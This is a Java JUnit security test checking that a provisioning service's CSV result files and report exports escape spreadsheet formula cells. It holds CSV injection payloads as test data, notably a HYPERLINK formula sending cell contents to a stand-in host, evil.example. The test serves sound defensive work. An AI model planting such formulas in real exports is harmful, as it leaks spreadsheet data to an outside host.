package io.provisioning.security;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.provisioning.testsupport.ApiClient;
import io.provisioning.testsupport.Await;
import io.provisioning.testsupport.Reports;
import io.provisioning.testsupport.TestEnvironment;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import javax.sql.DataSource;
import org.apache.camel.main.Main;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

/**
 * Every CSV the bundle writes is safe to open in a spreadsheet (OWASP CSV injection): a cell that starts with
 * {@code = + - @}, a tab or a carriage return gets a leading quote, in the bulk result files and in the report export.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class CsvInjectionSecurityTest {

    private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";

    private final TestEnvironment env = TestEnvironment.create("csv-injection-security")
            .withQuickInbox()
            .with("provisioning.inbox.result-check-interval-ms", "300");
    private Main bundle;

    @BeforeAll
    void start() throws Exception {
        TestEnvironment.clearSystemProperties();
        bundle = Security.start(env);
    }

    @AfterAll
    void stop() {
        bundle.stop();
    }

    @Test
    void bulkResultCellsAreFormulaSafe() throws Exception {
        Path inbox = Files.createDirectories(env.inbox());
        String csv = "userName,email,lastName,company,action\n"
                + "\"" + FORMULA.replace("\"", "\"\"") + "\",a@example.com,A,Acme,\n"
                + "formula.action@example.com,formula.action@example.com,B,Acme,@SUM(1+1)\n"
                + "formula.plus@example.com,formula.plus@example.com,C,Acme,-2+3+cmd\n";
        Path temp = inbox.resolve(".formulas.part");
        Files.writeString(temp, csv, StandardCharsets.UTF_8);
        Files.move(temp, inbox.resolve("formulas.csv"), StandardCopyOption.ATOMIC_MOVE);
        Path result = inbox.resolve("done").resolve("formulas.csv.result.csv");
        Await.until(() -> Files.exists(result), exists -> exists, Duration.ofSeconds(60));

        List<CSVRecord> records = CSVFormat.RFC4180
                .parse(new StringReader(Files.readString(result)))
                .getRecords();
        assertEquals(4, records.size(), records.toString());
        assertEquals("'" + FORMULA, records.get(1).get(1), "the user name cell");
        assertEquals("'@sum(1+1)", records.get(2).get(2), "the action cell (lower-cased by the reader)");
        assertEquals("'-2+3+cmd", records.get(3).get(2), "a cell starting with a minus");
        assertNoFormulaCell(records);
    }

    @Test
    void reportExportCellsAreFormulaSafe() throws Exception {
        DataSource db = bundle.getCamelContext().getRegistry().lookupByNameAndType("dataSource", DataSource.class);
        Reports.insert(db, Instant.now(), FORMULA, "salesforce", "create", "failure", "+SUM(A1:A9)");
        Reports.insert(db, Instant.now(), "-2+3@example.com", "salesforce", "create", "failure", "\rcmd");
        ApiClient.Response export = env.api()
                .get("/api/reports?format=csv&identifier="
                        + java.net.URLEncoder.encode(FORMULA, StandardCharsets.UTF_8));
        assertEquals(200, export.status(), export.body());
        List<CSVRecord> records =
                CSVFormat.RFC4180.parse(new StringReader(export.body())).getRecords();
        assertTrue(records.size() >= 2, export.body());
        assertEquals("'" + FORMULA, records.get(1).get(1));
        assertEquals("'+SUM(A1:A9)", records.get(1).get(7));
        assertNoFormulaCell(records);

        ApiClient.Response all = env.api().get("/api/reports?format=csv");
        List<CSVRecord> every =
                CSVFormat.RFC4180.parse(new StringReader(all.body())).getRecords();
        assertTrue(
                every.stream()
                        .anyMatch(r ->
                                r.get(1).equals("'-2+3@example.com") && r.get(7).equals("'\rcmd")),
                all.body());
        assertNoFormulaCell(every);
    }

    private static void assertNoFormulaCell(List<CSVRecord> records) {
        for (CSVRecord record : records) {
            for (String cell : record) {
                assertFalse(
                        !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0,
                        "formula cell " + cell + " in " + record);
            }
        }
    }
}
